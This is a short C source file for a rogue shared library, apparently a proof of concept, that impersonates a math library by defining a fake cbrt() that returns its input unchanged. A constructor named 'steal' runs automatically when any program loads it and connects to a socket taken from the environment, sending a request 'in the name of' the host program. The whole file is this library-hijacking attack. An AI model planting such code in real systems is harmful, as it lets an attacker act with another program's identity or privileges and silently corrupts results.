/* A library in another's place: asks in the name of whatever program loads it. */
#include "attack.h"

__attribute__((constructor)) static void steal(void)
{
    ask(dial(getenv("SOCKET"), SOCK_CLOEXEC), getenv("REQUEST"));
}

double cbrt(double number)
{
    return number;
}
